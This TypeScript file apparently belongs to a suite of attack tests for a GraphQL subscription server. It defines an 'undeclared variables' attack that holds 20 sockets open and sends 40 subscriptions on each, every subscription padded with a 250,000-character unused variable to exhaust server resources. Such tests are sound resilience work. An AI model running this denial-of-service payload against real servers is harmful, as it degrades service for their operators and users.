// Subscriptions with a quarter of a megabyte of variables that nobody declared.

import { type Attack, holdSockets, subscribe, watchPayload } from '../attack.ts'

export const undeclaredVariables: Attack = {
  name: 'undeclared variables',
  run(target) {
    const { query, variables } = watchPayload(target)
    const payload = { query, variables: { ...variables, waste: 'x'.repeat(250_000) } }
    return holdSockets(target, {
      count: 20,
      key: target.key,
      use(socket) {
        for (let id = 0; id < 40; id++) subscribe(socket, String(id), payload)
      },
    })
  },
}
